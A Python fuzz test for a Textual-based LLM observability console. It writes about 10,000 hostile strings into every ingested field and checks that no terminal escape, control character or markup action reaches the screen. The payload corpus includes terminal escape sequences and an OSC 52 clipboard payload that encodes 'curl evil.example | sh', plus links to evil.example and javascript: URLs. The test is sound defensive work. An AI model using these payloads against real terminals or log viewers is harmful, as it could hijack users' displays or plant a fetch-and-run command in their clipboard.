"""Fuzz: hostile strings in every untrusted field, rendered through every view (RELIABILITY R3.3).

A seeded corpus of ~10k payloads (OSC 0/8/52 title/hyperlink/clipboard escapes, DCS, APC,
CSI, raw C1, C0 controls, bidi overrides, Textual markup with `@click` actions, links,
malformed tags, invalid UTF-8, zero-width joiners, emoji, very long words, 1 MB lines) is
written into every text field a span can carry — service, span name, provider, request and
response model, tenant, route, prompt id and version, error type, status message, attribute
keys and values, event names — through the real ingest (Collector JSON lines, flat JSON lines,
Parquet with binary columns), and into the SLO and budget names and filter values of the config.

The real app (`LlmdeckApp` polling the real `Backend`) is then driven through every view at
160x50 (every key, period, dimension, span, and a click on hostile text per screen) and again,
once per screen, at 80x24; a hostile text is also pasted into the filter bar and the `:` prompt.
After each step the full-screen update, exactly as the driver would write it to the terminal,
must hold no OSC/DCS/APC/C1 and no control sequence but the CSI forms Textual
itself emits for the same screens over benign data; no C0/C1 control or bidi override may be
written as a character; the app must not crash (a `MarkupError` would end it) and no action may
run from text that came from the data, also when its cells are clicked.
"""

from __future__ import annotations

import base64
import inspect
import random
import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import orjson
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from rich.text import Text
from textual import events
from textual.app import App, ComposeResult
from textual.content import Content
from textual.widgets import DataTable, Input, Label, Static, Tree

from console.app import LlmdeckApp
from console.backend import Backend
from console.cache.ingest import Ingestor, IngestReport
from console.cache.store import Cache
from console.config import BudgetSpec, CacheSettings, Config, ScopeFilter, SloSpec
from console.safe_text import cell
from console.snapshots import DIMENSIONS
from console.views import BreakdownView, TraceView
from panels.base import DeckScreen, FilterBar
from panels.command_line import CommandLine
from panels.cost_screen import PERIODS, SPEND_DIMENSIONS, CostScreen
from panels.help_screen import HelpScreen
from panels.messages import FetchFailed, Navigate
from panels.overview import OverviewScreen
from panels.slo_screen import SloScreen
from panels.span_tree import SpanTree
from panels.status_line import StatusLine
from panels.text import SafeInput, safe, safe_cell, safe_line, template
from panels.traces_screen import RequestsScreen, TraceScreen, TracesScreen
from tests.tui.screen_text import screen_lines, terminal_bytes

END = datetime(2025, 6, 2, 14, 0)
"""The backend's frozen clock: every span falls in the hours before it."""
WALL = datetime(2025, 6, 2, 14, 0, 1)
SEED = 20250602
CORPUS_SIZE = 10_000
MEGABYTE_LINE = "A" * 400_000 + " \x1b]0;mega\x07 " + "[@click=app.quit]" * 10_000 + "B" * 430_000

# ---------------------------------------------------------------------------
# The payload corpus
# ---------------------------------------------------------------------------

_B64 = base64.b64encode(b"curl evil.example | sh").decode()
ATOMS: dict[str, tuple[str, ...]] = {
    "osc_title": ("\x1b]0;pwned title\x07", "\x1b]2;pwned\x1b\\", "\x1b]1;icon\x07"),
    "osc_link": ("\x1b]8;;http://evil.example\x1b\\click me\x1b]8;;\x1b\\",
                 "\x1b]8;id=1;https://evil.example/\x07x\x1b]8;;\x07"),
    "osc_clipboard": (f"\x1b]52;c;{_B64}\x07", f"\x1b]52;p;{_B64}\x1b\\"),
    "dcs": ("\x1bP+q544e\x1b\\", "\x1bP$qm\x1b\\", "\x1bPq#0;2;0;0;0#0~~@@\x1b\\"),
    "apc": ("\x1b_Gf=100,a=T;AAAA\x1b\\", "\x1b_pwn\x1b\\"),
    "csi": ("\x1b[2J", "\x1b[?1049h", "\x1b[31;1;5m", "\x1b[6n", "\x1b[H\x1b[3J", "\x1b[?25l",
            "\x1b[8m", "\x1b[1;1H", "\x1bc", "\x1b7\x1b8", "\x1b(0"),
    "c1": ("\x9b2J", "\x9d0;title\x9c", "\x90q\x9c", "\x9f", "\x85", "\x9e", "\x9b?1049h"),
    "c0": ("\x07", "\x08\x08\x08", "\r", "\x00", "\x7f", "\x0b\x0c", "\x1b", "\x0e\x0f", "\t", "\n"),
    "bidi": ("\u202e", "\u2066", "\u2067evil\u2069", "\u200f", "\u202b", "\u061c", "\u202d"),
    "click": ("[@click=app.quit]", "[@click=app.command_line]", "[@click=app.bell]",
              "[@click=app.help]x[/]", "[@click=screen.dismiss]", "[@click=app.goto('cost')]y[/]",
              "[@click=app.pop_screen]", "[@click=app.notify('pwn')]"),
    "close": ("[/]", "[/b]", "[/link]", "[/@click]", "[/ ]"),
    "link": ('[link="https://evil.example"]x[/link]', "[link=https://evil.example]x[/link]",
             "[link='javascript:alert(1)']y[/]"),
    "malformed": ("[b", "]", "[[", "]]", "[$error]", "[on red]", "$var", "[b][i]", "\\[", "[/b",
                  "[reverse blink]", "[#ff0000 on #00ff00]"),
    "surrogate": (b"\xff\xfe".decode("utf-8", "surrogateescape"),
                  b"\xc0\x80\xed\xa0\x80".decode("utf-8", "surrogateescape"),
                  b"ok\x9b2Jok".decode("utf-8", "surrogateescape"),
                  "\ud800", "\udfff"),
    "zwj": ("👩\u200d💻", "\u200b", "\ufeff", "\u200d\u200d", "e\u0301\u0301\u0301"),
    "emoji": ("🔥🚨", "漢字テスト", "🏳️\u200d🌈", "\U0001f9d1\U0001f3fd\u200d\U0001f680"),
    "long_word": ("x" * 3000, "🔥" * 800, "[" * 500 + "]" * 500),
}
CLASSES = tuple(ATOMS)
FILLER = ("chat", "gpt", "tenant", "acme", "v2", "/v1/chat", "error", "", " ", "-")


def corpus(n: int = CORPUS_SIZE, seed: int = SEED) -> list[str]:
    """`n` payloads: every atom once on its own, then random combinations of one to four atoms
    of random classes with benign words between them."""
    rng = random.Random(seed)
    out = [atom for cls in CLASSES for atom in ATOMS[cls]]
    while len(out) < n:
        parts = []
        for _ in range(1 + rng.randrange(4)):
            parts.append(rng.choice(FILLER))
            parts.append(rng.choice(ATOMS[rng.choice(CLASSES)]))
        out.append("".join(parts))
    return out


def storable(text: str) -> str:
    """What a JSON reader can carry: lone surrogates (invalid UTF-8) become U+FFFD.

    Raw invalid bytes are written too, in lines of their own (the reader rejects them)."""
    return "".join("\ufffd" if 0xD800 <= ord(c) < 0xE000 else c for c in text)


PAYLOADS = corpus()

# ---------------------------------------------------------------------------
# A cache whose every text field is hostile (or, for the baseline, benign)
# ---------------------------------------------------------------------------

TRACES = 200
"""Traces of three spans (root, LLM call, HTTP child) over the two hours before END."""
BENIGN_WORDS = ("alpha", "beta", "gamma", "delta", "chat", "acme", "v2", "support", "search")


class Feed:
    """Hands out the corpus in order (hostile) or plain words (benign); counts what it gave."""

    def __init__(self, hostile: bool) -> None:
        self.hostile = hostile
        self.given = 0

    def __call__(self) -> str:
        i = self.given
        self.given += 1
        if self.hostile:
            return storable(PAYLOADS[i % len(PAYLOADS)])
        return f"{BENIGN_WORDS[i % len(BENIGN_WORDS)]}-{i}"

    def pool(self, n: int) -> list[str]:
        return [self() for _ in range(n)]


def _ns(t: datetime) -> int:
    return int(t.replace(tzinfo=UTC).timestamp() * 1e9)


def _kv(key: str, value: object) -> dict[str, Any]:
    if isinstance(value, bool):
        return {"key": key, "value": {"boolValue": value}}
    if isinstance(value, int):
        return {"key": key, "value": {"intValue": str(value)}}
    return {"key": key, "value": {"stringValue": value}}


@dataclass
class Deck:
    """A cache and config built from one feed, and what went into it."""

    cache: Cache
    config: Config
    report: IngestReport
    hostile: bool
    slots: int
    """Payload instances written into span fields (the flat and Parquet files add more)."""
    config_texts: int
    tenants: list[str]
    trace_ids: list[str] = field(default_factory=list)
    mega_trace: str = ""


def _otlp_trace(i: int, feed: Feed, pools: dict[str, list[str]], mega: bool
                ) -> tuple[str, list[dict[str, Any]]]:
    """Trace `i`: a root span, an LLM call with every GenAI field set, an HTTP child."""
    trace_id = f"{0xFACE0000 + i:032x}"
    start = _ns(END - timedelta(hours=2) + timedelta(hours=2) * i / TRACES)

    def pick(name: str) -> str:
        pool = pools[name]
        return pool[i % len(pool)]

    def extra(n: int) -> list[dict[str, Any]]:
        return [_kv(feed(), feed()) for _ in range(n)]

    error = i % 3 == 0
    llm_attrs = [
        _kv("gen_ai.operation.name", "chat"),
        _kv("gen_ai.provider.name", "openai" if i % 2 else pick("provider")),
        _kv("gen_ai.request.model", "gpt-4o-mini" if i % 2 else pick("model")),
        _kv("gen_ai.response.model", feed()),
        _kv("gen_ai.usage.input_tokens", 2000 + 37 * i), _kv("gen_ai.usage.output_tokens", 300),
        _kv("llmdeck.tenant", MEGABYTE_LINE if mega else pick("tenant")),
        _kv("llmdeck.route", pick("route")),
        _kv("llmdeck.prompt.id", feed()),
        _kv("llmdeck.prompt.version", pools["version"][i * len(pools["version"]) // TRACES]),
        _kv("http.response.status_code", 429 if i % 6 == 0 else (500 if error else 200)),
        *([_kv("error.type", feed())] if error else []),
        *extra(13),
        *([_kv("mega.value", MEGABYTE_LINE)] if mega else []),
    ]

    def span(n: int, parent: int | None, name: str, attrs: list[dict[str, Any]],
             status: dict[str, Any], events: tuple[dict[str, Any], ...] = ()) -> dict[str, Any]:
        body: dict[str, Any] = {
            "traceId": trace_id, "spanId": f"{(i << 4) + n + 1:016x}", "name": name, "kind": 3,
            "startTimeUnixNano": str(start + n * 50_000_000),
            "endTimeUnixNano": str(start + (3 - n) * 400_000_000 + 37_000_000 * (i % 13)),
            "attributes": attrs, "status": status, "events": list(events),
        }
        if parent is not None:
            body["parentSpanId"] = f"{(i << 4) + parent + 1:016x}"
        return body

    status = {"code": 2, "message": MEGABYTE_LINE if mega else feed()} if error else {"code": 1}
    events = ({"name": feed(), "timeUnixNano": str(start + 60_000_000), "attributes": extra(1)},)
    spans = [
        span(0, None, feed(), [_kv("http.route", pick("route")), *extra(3)], {}),
        span(1, 0, MEGABYTE_LINE if mega else feed(), llm_attrs, status, events),
        span(2, 1, feed(), extra(2), {"code": 2, "message": feed()} if error else {}),
    ]
    return trace_id, spans


def _write_otlp(folder: Path, feed: Feed, pools: dict[str, list[str]]) -> tuple[Path, list[str]]:
    path = folder / "collector.jsonl"
    trace_ids = []
    with path.open("wb") as f:
        for lo in range(0, TRACES, 25):
            by_service: dict[str, list[dict[str, Any]]] = {}
            for i in range(lo, lo + 25):
                trace_id, spans = _otlp_trace(i, feed, pools, mega=feed.hostile and i == 5)
                trace_ids.append(trace_id)
                by_service.setdefault(pools["service"][i % len(pools["service"])], []).extend(spans)
            request = {"resourceSpans": [
                {"resource": {"attributes": [_kv("service.name", svc), _kv(feed(), feed())]},
                 "scopeSpans": [{"scope": {"name": feed()}, "spans": spans}]}
                for svc, spans in by_service.items()]}
            f.write(orjson.dumps(request) + b"\n")
    return path, trace_ids


def _flat_record(i: int, feed: Feed, trace_id: str | None = None) -> dict[str, Any]:
    start = END - timedelta(minutes=50) + timedelta(seconds=37 * i)
    return {
        "trace_id": trace_id or f"{0xF1A70000 + i:032x}", "span_id": f"{0xF1A7 + i:016x}",
        "service": feed(), "name": feed(), "kind": 3,
        "start_time": start.isoformat() + "Z", "duration_ms": 900.0 + i,
        "status": "error", "status_message": feed(), "operation": "chat",
        "provider": feed(), "request_model": feed(), "response_model": feed(),
        "input_tokens": 100, "output_tokens": 10, "error_type": feed(), "http_status": 503,
        "tenant": feed(), "route": feed(), "prompt_id": feed(), "prompt_version": feed(),
        feed() + ".dotted": feed(), "attributes": {feed(): feed()},
    }


BAD_IDS = (
    "\x1b]0;pwned\x07" + "0" * 24, "[@click=app.quit]aaaaaaaaaaaaaaa", "[/]" + "f" * 29,
    "\x9b2J" + "e" * 29, "\u202e" + "d" * 31, "g" * 32, "A" * 1000,
)


def _write_flat(folder: Path, feed: Feed) -> Path:
    """Flat JSON lines: hostile column values; ids that are not hex; raw invalid UTF-8."""
    path = folder / "flat.jsonl"
    with path.open("wb") as f:
        for i in range(30):
            f.write(orjson.dumps(_flat_record(i, feed)) + b"\n")
        if feed.hostile:
            for n, bad in enumerate(BAD_IDS):  # the ingest must refuse these, not store them
                f.write(orjson.dumps(_flat_record(100 + n, feed, trace_id=bad)) + b"\n")
                f.write(orjson.dumps(_flat_record(200 + n, feed) | {"span_id": bad}) + b"\n")
            for n in range(4):  # invalid UTF-8: a JSON reader must reject the line
                raw = orjson.dumps(_flat_record(300 + n, feed)).replace(
                    b'"chat"', b'"ch\xff\xfe\x9b2Jat\xed\xa0\x80"')
                f.write(raw + b"\n")
    return path


def _write_parquet(folder: Path, feed: Feed) -> Path:
    """Parquet with binary (not UTF-8) text columns: raw escape bytes and invalid UTF-8."""
    raw = [b"\x1b]0;pq\x07\xff\xfe[@click=app.quit]\x9b2J", b"ok\xc0\x80\x1bP1$r\x1b\\",
           b"\xe2\x80\xae[/]\x1b[2J"] if feed.hostile else [b"parquet-a", b"parquet-b", b"parquet-c"]
    rows = 12
    start = _ns(END - timedelta(minutes=40))
    table = pa.table({
        "trace_id": [f"{0xBA5E0000 + i:032x}" for i in range(rows)],
        "span_id": [f"{0xBA5E + i:016x}" for i in range(rows)],
        "start_time_unix_nano": [start + i * 10**9 for i in range(rows)],
        "duration_ms": [1200.0 + i for i in range(rows)],
        "status": ["error"] * rows,
        "name": pa.array([raw[i % 3] for i in range(rows)], pa.binary()),
        "service": pa.array([raw[(i + 1) % 3] for i in range(rows)], pa.binary()),
        "tenant": pa.array([raw[(i + 2) % 3] for i in range(rows)], pa.binary()),
        "provider": pa.array([raw[i % 3] for i in range(rows)], pa.binary()),
        "request_model": pa.array([raw[(i + 1) % 3] for i in range(rows)], pa.binary()),
        "status_message": pa.array([raw[(i + 2) % 3] for i in range(rows)], pa.binary()),
        "route": [feed() for _ in range(rows)],
    })
    path = folder / "binary.parquet"
    pq.write_table(table, path)
    return path


def _config(feed: Feed, pools: dict[str, list[str]], cache_path: Path) -> tuple[Config, int]:
    """SLOs and budgets whose names and filter values are hostile (filters match real traffic)."""
    name = feed

    def big(unit: str) -> str:
        return unit * (100_000 // len(unit)) if feed.hostile else "-long"

    slos = [
        SloSpec(name=name(), kind="availability", objective=0.99, filter=ScopeFilter(tenant=t))
        for t in pools["tenant"][:6]
    ] + [
        SloSpec(name=name(), kind="latency", objective=0.95, threshold_ms=800,
                filter=ScopeFilter(service=pools["service"][0], route=pools["route"][1])),
        SloSpec(name=name(), kind="rate_limit", objective=0.999,
                filter=ScopeFilter(provider=pools["provider"][0], model=pools["model"][0])),
        SloSpec(name=name(), kind="availability", objective=0.9,
                filter=ScopeFilter(prompt_version=pools["version"][1])),
        SloSpec(name=name() + big("[@click=app.quit]"), kind="availability", objective=0.5),
    ]
    budgets = [
        BudgetSpec(name=name(), scope="tenant", match=t, period="day", limit_usd=0.01)
        for t in pools["tenant"][1:5]
    ] + [
        BudgetSpec(name=name(), scope="provider", match=pools["provider"][0], limit_usd=5),
        BudgetSpec(name=name(), scope="model", match="gpt-4o-mini", period="week", limit_usd=0.5),
        BudgetSpec(name=name() + big("\x1b]0;b\x07"), limit_usd=1000),
    ]
    # (pydantic refuses lone surrogates in config text, so none are tried here)
    texts = len(slos) + len(budgets) + sum(len(s.filter.items()) for s in slos) + sum(
        b.match is not None for b in budgets)
    config = Config(cache=CacheSettings(path=cache_path, rollup_retention_days=None),
                    slos=slos, budgets=budgets)
    return config, texts


def build_deck(folder: Path, hostile: bool) -> Deck:
    feed = Feed(hostile)
    pools = {"provider": feed.pool(6), "model": feed.pool(8), "tenant": feed.pool(30),
             "route": feed.pool(12), "version": feed.pool(10), "service": feed.pool(8)}
    otlp, trace_ids = _write_otlp(folder, feed, pools)
    flat = _write_flat(folder, feed)
    parquet = _write_parquet(folder, feed)
    slots = feed.given
    config, config_texts = _config(feed, pools, folder / "cache.duckdb")
    cache = Cache.open(folder / "cache.duckdb")
    report = Ingestor(cache, config).run([otlp, flat, parquet], "auto")
    return Deck(cache, config, report, hostile, slots, config_texts, pools["tenant"],
                trace_ids, mega_trace=trace_ids[5])


# ---------------------------------------------------------------------------
# What may reach the terminal
# ---------------------------------------------------------------------------

CSI = re.compile(r"\x1b\[([0-?]*)([ -/]*)([@-~])")
"""ECMA-48 control sequence: parameter bytes, intermediate bytes, final byte."""
FORBIDDEN = ("\x1b]", "\x1bP", "\x1b_", "\x1b^", "\x1bX", "\x9b", "\x9d", "\x90", "\x9e", "\x9f",
             "\x9c", "\x07")
CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f]")
"""Unicode category Cc (C0, DEL, C1) but the newline between lines of an update."""
BIDI = re.compile("[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
SURROGATE = re.compile("[\ud800-\udfff]")


def csi_form(match: re.Match[str]) -> str:
    """A CSI with its numbers abstracted: `ESC[<n>;<n>H` -> `H`, `ESC[?25l` -> `?l`."""
    params, inter, final = match.groups()
    return re.sub(r"[0-9;:]", "", params) + inter + final


def csi_forms(data: str) -> set[str]:
    return {csi_form(m) for m in CSI.finditer(data)}


def leaks(data: str, allowed_forms: set[str]) -> list[str]:
    """Everything in a terminal update that did not come from Textual's own styling/cursor moves."""
    found = [f"forbidden {s!r} at {data.index(s)}: {data[max(0, data.index(s) - 30):data.index(s) + 30]!r}"
             for s in FORBIDDEN if s in data]
    bad_forms = csi_forms(data) - allowed_forms
    if bad_forms:
        found.append(f"CSI forms Textual does not emit for benign data: {sorted(bad_forms)}")
    text = CSI.sub("", data)
    if "\x1b" in text:
        at = text.index("\x1b")
        found.append(f"ESC that begins no CSI: {text[max(0, at - 30):at + 30]!r}")
    controls = sorted(set(CONTROL.findall(text)))
    if controls:
        found.append(f"control characters written raw: {controls}")
    bidi = sorted(set(BIDI.findall(text)))
    if bidi:
        found.append(f"bidi controls written raw: {[f'U+{ord(c):04X}' for c in bidi]}")
    if SURROGATE.search(text):
        found.append("lone surrogates written (the driver cannot even encode them)")
    return found


# ---------------------------------------------------------------------------
# The real app, recording every action it runs that the data could have asked for
# ---------------------------------------------------------------------------

WATCHED = ("quit", "bell", "command_line", "help", "pop_screen", "notify", "goto", "next_theme",
           "command_palette", "screenshot", "toggle_dark", "suspend_process")


def _watch(name: str) -> Any:
    """`action_<name>` that records the call, then runs the app's own (quit is only recorded)."""
    original = getattr(LlmdeckApp, f"action_{name}")
    if inspect.iscoroutinefunction(original):
        async def run_async(self: Any, *args: Any) -> None:
            self.ran.append(name)
            if name != "quit":
                await original(self, *args)
        return run_async

    def run(self: Any, *args: Any) -> None:
        self.ran.append(name)
        original(self, *args)
    return run


class FuzzApp(LlmdeckApp):
    """`LlmdeckApp` that records the watched actions and every markup `@` action an event carried."""

    def __init__(self, *args: Any, **kwargs: Any) -> None:
        super().__init__(*args, **kwargs)
        self.ran: list[str] = []
        self.markup_actions: list[str] = []

    async def _broker_event(self, event_name: str, event: Any, default_namespace: Any) -> bool:
        style = getattr(event, "style", None)
        meta = getattr(style, "meta", None) or {}
        if any(str(key).startswith("@") for key in meta):
            self.markup_actions.append(f"{event_name}: {meta}")
        return await super()._broker_event(event_name, event, default_namespace)


for _name in WATCHED:
    if hasattr(LlmdeckApp, f"action_{_name}"):
        setattr(FuzzApp, f"action_{_name}", _watch(_name))


class Probe:
    """A data source whose name and detail are hostile, shown in every status line."""

    def __init__(self, name: str, detail: str) -> None:
        self.name, self.detail = name, detail

    def source_status(self) -> Any:
        from console.sources import SourceStatus

        return SourceStatus(self.name, "otlp-file", "stale", END - timedelta(minutes=3),
                            since=END - timedelta(minutes=2), detail=self.detail)


@dataclass
class Run:
    """One drive of the app: every captured update by step name, and the actions it expected."""

    pilot: Any
    deck: Deck
    captures: dict[str, str] = field(default_factory=dict)
    expected: list[str] = field(default_factory=list)
    clicks: int = 0
    kicks: int = 0

    @property
    def app(self) -> FuzzApp:
        app: FuzzApp = self.pilot.app
        return app

    def capture(self, step: str) -> None:
        app = self.app
        assert app.is_running and app._exception is None, f"{step}: the app stopped: {app._exception!r}"
        assert app.ran == self.expected, f"{step}: actions ran that nobody asked for: {app.ran}"
        assert not app.markup_actions, f"{step}: markup actions reached the app: {app.markup_actions}"
        key = step
        n = 2
        while key in self.captures:
            key, n = f"{step}#{n}", n + 1
        self.captures[key] = terminal_bytes(app)

    async def press(self, *keys: str, runs: str | None = None) -> None:
        await self.pilot.press(*keys)
        if runs:
            self.expected.append(runs)
        await self.pilot.pause()

    async def settle(self, kind: type[DeckScreen], extra_pauses: int = 1,
                     may_fail: bool = False) -> DeckScreen:
        """Wait until the screen on top is `kind` and shows a snapshot of its current view
        (or, when `may_fail`, says in its status line that the fetch failed)."""
        app = self.app
        for i in range(400):
            await self.pilot.pause(0.01)
            screen = app.screen
            if isinstance(screen, kind) and not app._polling and (
                    (screen.last is not None and screen.last.view == screen.view())
                    or (may_fail and screen.query_one(StatusLine).error is not None)):
                break
            if i % 25 == 24 and not app._polling:
                # A fallback, as a person would press `r`: a refresh asked for just as a poll
                # ended used to be pushed back a whole interval by the poller re-arming its timer.
                self.kicks += 1
                app.action_refresh_now()
        else:
            raise AssertionError(
                f"{kind.__name__} never showed its data (top: {app.screen!r}, polling:"
                f" {app._polling}, last: {getattr(screen.last, 'view', None)}, now: {screen.view()})")
        for _ in range(extra_pauses):
            await self.pilot.pause()
        return screen

    async def navigate(self, target: str, view: Any, kind: type[DeckScreen],
                       may_fail: bool = False) -> DeckScreen:
        self.app.post_message(Navigate(target, view))
        await self.pilot.pause()
        return await self.settle(kind, may_fail=may_fail)

    async def click_hostile_cells(self, step: str, needles: tuple[str, ...] = ("[@click=",)) -> None:
        """Click the first visible text that looks like markup (`[@click=app.quit]`...): the
        click lands on inert text, so no action may run (checked by `capture`)."""
        hits = [(line.find(needle), y) for y, line in enumerate(screen_lines(self.app))
                for needle in needles if needle in line]
        if not hits:
            return
        x, y = hits[0]
        top = self.app.screen
        await self.pilot.click(offset=(x + 1, y))
        await self.pilot.pause()
        self.clicks += 1
        self.capture(f"{step}: click at {x},{y}")
        if self.app.screen is not top:  # a click on the cursor row drills down: go back
            await self.press("escape")


async def drive(run: Run, hostile_text: str, full: bool = True) -> None:
    """Every view, key and modal of the console, capturing the terminal after each step.

    `full=False` (the benign baseline, and the 80x24 run) visits every screen once, without
    the repeats and clicks.
    """
    deck = run.deck
    screen = await run.settle(OverviewScreen)
    run.capture("overview")
    screen.post_message(FetchFailed(screen.view(), hostile_text))
    await run.pilot.pause()
    run.capture("overview: fetch failed")
    if full:
        await run.click_hostile_cells("overview")

    await run.press("2", runs="goto")
    await run.settle(SloScreen)
    run.capture("slo")
    for _ in range(4 if full else 1):
        await run.press("down")
        await run.settle(SloScreen, extra_pauses=0)
        run.capture("slo: next")
    if full:
        await run.click_hostile_cells("slo")

    await run.press("3", runs="goto")
    await run.settle(CostScreen)
    run.capture("cost")
    for period in PERIODS if full else PERIODS[:1]:
        await run.press("p")
        run.capture(f"cost: after {period}")
    for dimension in SPEND_DIMENSIONS if full else SPEND_DIMENSIONS[:1]:
        await run.press("d")
        run.capture(f"cost: after {dimension}")
    if full:
        await run.click_hostile_cells("cost")

    await run.press("4", runs="goto")
    for _ in DIMENSIONS if full else DIMENSIONS[:2]:
        traces = await run.settle(TracesScreen)
        dimension = traces.view().dimension
        run.capture(f"traces by {dimension}")
        if dimension == "tenant":
            await run.press("slash")
            bar = run.app.screen.focused
            assert isinstance(bar, Input)
            bar.post_message(events.Paste(hostile_text))
            await run.pilot.pause()
            assert bar.value, "the paste reached the filter bar"
            run.capture("traces: hostile text pasted into the filter bar")
            await run.press("escape")
        if full:
            await run.click_hostile_cells(f"traces by {dimension}")
        await run.press("d")

    if full:
        tenant = deck.tenants[1]
        await run.navigate("traces", BreakdownView(ScopeFilter(tenant=tenant), "model"), TracesScreen)
        run.capture("traces: one hostile tenant")
    pinned = ScopeFilter(**{d: deck.tenants[i] for i, d in enumerate(DIMENSIONS[:-1])})
    await run.navigate("traces", BreakdownView(pinned, "prompt_version"), TracesScreen)
    run.capture("traces: every dimension pinned to hostile values")
    await run.press("d")  # notify: nothing left to group by
    run.capture("traces: notify")

    await run.navigate("traces", BreakdownView(), TracesScreen)
    await run.press("f")
    requests = await run.settle(RequestsScreen)
    run.capture("requests failed")
    assert requests.rows, "the requests screen shows rows"
    if full:
        await run.click_hostile_cells("requests failed", ("[@click=", "[/]", "[link"))
    await run.press("o")
    await run.settle(RequestsScreen)
    run.capture("requests slowest")
    if full:
        await run.press("w")
        await run.settle(RequestsScreen)
        run.capture("requests slowest, next window")

    for trace_id in (deck.trace_ids[3], deck.mega_trace) if full else deck.trace_ids[3:4]:
        trace = await run.navigate("trace", TraceView(trace_id), TraceScreen)
        tree = trace.query_one(SpanTree)
        for n in range(3):
            await run.pilot.pause()
            assert tree.selected_span is not None
            run.capture(f"trace {trace_id[-4:]} span {n}")
            await run.press("down")
        if full:
            await run.click_hostile_cells(f"trace {trace_id[-4:]}", ("[@click=", "[/]", "[link"))
        await run.press("escape")

    # an id no ingest would store (typed, say); with a lone surrogate the query itself fails
    await run.navigate("trace", TraceView(hostile_text), TraceScreen, may_fail=True)
    run.capture("trace: hostile id not in the cache")
    await run.press("c")
    run.capture("trace: copied the hostile id")
    assert not leaks(run.app.clipboard, set()), "the clipboard gets the sanitised id"
    await run.press("escape")

    await run.press("question_mark", runs="help")
    assert isinstance(run.app.screen, HelpScreen)
    run.capture("help")
    await run.press("escape")

    await run.press("colon", runs="command_line")
    assert isinstance(run.app.screen, CommandLine)
    prompt = run.app.screen.query_one(Input)
    prompt.post_message(events.Paste(hostile_text))
    await run.pilot.pause()
    assert prompt.value, "the paste reached the prompt"
    run.capture("command line: pasted")
    await run.press("enter")
    run.capture("command line: unknown command notified")


# ---------------------------------------------------------------------------
# Fixtures and the end-to-end tests
# ---------------------------------------------------------------------------

SIZES = ((160, 50), (80, 24))


@pytest.fixture(scope="module")
def hostile_deck(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Deck]:
    deck = build_deck(tmp_path_factory.mktemp("hostile"), hostile=True)
    yield deck
    deck.cache.close()


@pytest.fixture(scope="module")
def benign_deck(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Deck]:
    deck = build_deck(tmp_path_factory.mktemp("benign"), hostile=False)
    yield deck
    deck.cache.close()


def make_app(deck: Deck) -> FuzzApp:
    feed = Feed(deck.hostile)
    feed.given = 7
    backend = Backend(deck.cache, deck.config, clock=lambda: END,
                      sources=[Probe(feed(), feed()), Probe(MEGABYTE_LINE if deck.hostile else feed(), "")])
    return FuzzApp(backend, poll=True, wall_clock=lambda: WALL)


async def drive_app(deck: Deck, size: tuple[int, int], full: bool = True) -> Run:
    text = (PAYLOADS[11] + PAYLOADS[3] + "[/][@click=app.quit]q\udcff\x9b2J" + PAYLOADS[40]
            if deck.hostile else "benign-command")
    app = make_app(deck)
    async with app.run_test(size=size) as pilot:
        run = Run(pilot, deck)
        await drive(run, text, full)
        assert app.is_running and app._exception is None
        assert app.ran == run.expected and not app.markup_actions
    assert app._exception is None and app.return_code in (None, 0)
    return run


@pytest.fixture(scope="module")
def benign_forms(benign_deck: Deck) -> set[str]:
    """The CSI forms Textual itself writes for the same screens over benign data.

    (A form is a CSI with its numbers taken out; the forms do not depend on the size.)"""
    import asyncio

    run = asyncio.run(drive_app(benign_deck, SIZES[0], full=False))
    forms: set[str] = set().union(*(csi_forms(data) for data in run.captures.values()))
    for step, data in run.captures.items():
        assert not leaks(data, forms), f"benign {step}: {leaks(data, forms)}"
    assert forms >= {"H", "m"}, forms  # cursor moves and SGR styling
    return forms


def test_the_ingest_keeps_what_it_can_and_refuses_odd_ids_and_invalid_utf8(hostile_deck: Deck) -> None:
    report = hostile_deck.report
    assert report.spans_stored == TRACES * 3 + 30 + 12
    assert report.quarantined == 2 * len(BAD_IDS) + 4
    cur = hostile_deck.cache.cursor()
    ids = {r[0] for r in cur.execute("SELECT trace_id FROM spans").fetchall()}
    assert all(re.fullmatch(r"[0-9a-f]{32}", i) for i in ids), "only hex trace ids are stored"
    # what does survive: escapes, C1, bidi, markup, a megabyte line, in every text column
    (tenants,) = cur.execute("SELECT count(*) FILTER (WHERE tenant LIKE '%' || chr(27) || ']%')"
                             " FROM spans").fetchone()
    assert tenants > 0
    (longest,) = cur.execute("SELECT max(length(name)) FROM spans").fetchone()
    assert longest >= 1_000_000
    assert hostile_deck.slots + hostile_deck.config_texts >= 10_000


@pytest.mark.parametrize("size", SIZES, ids=lambda s: f"{s[0]}x{s[1]}")
async def test_every_view_writes_no_escape_from_the_data(
    hostile_deck: Deck, benign_forms: set[str], size: tuple[int, int]
) -> None:
    """160x50: every view, key, period, dimension and a click on hostile cells; 80x24: each once."""
    full = size == SIZES[0]
    run = await drive_app(hostile_deck, size, full)
    problems = {step: found for step, data in run.captures.items()
                if (found := leaks(data, benign_forms))}
    assert not problems, problems
    assert len(run.captures) >= (45 if full else 20)
    assert run.clicks >= 10 or not full


# ---------------------------------------------------------------------------
# The helpers in panels/text.py, over the whole corpus and in real widgets
# ---------------------------------------------------------------------------


def _inert(value: Content | Text) -> list[str]:
    """Why `value` is not inert text: raw controls, bidi, or styles/meta/links from markup."""
    plain = value.plain
    problems = leaks(plain.replace("\t", " "), set())
    spans = value.spans
    if isinstance(value, Text):
        styles = [str(s.style) for s in spans] + ([str(value.style)] if value.style else [])
        problems += [f"link or meta in {s}" for s in styles if "link" in s or "@" in s]
    problems += [f"markup span {s!r}" for s in spans] if isinstance(value, Content) else []
    return problems


def test_every_corpus_payload_comes_out_of_each_helper_as_inert_text() -> None:
    payloads = [*PAYLOADS, MEGABYTE_LINE]
    for i, payload in enumerate(payloads):
        for helper in (safe, safe_line, safe_cell):
            out = helper(payload)
            assert not _inert(out), (i, helper.__name__, payload[:200], _inert(out))
            assert len(out.plain) <= 4096 * len("<U+202E>") + 1  # capped
        assert "\n" not in safe_line(payload).plain and "\n" not in safe_cell(payload).plain
        filled = template("[b]name[/b] $value [@click=app.bell]ok[/]", value=payload)
        meta = [span.style for span in filled.spans if "@click" in str(span.style)]
        assert filled.plain.startswith("name ") and filled.plain.endswith(" ok"), i
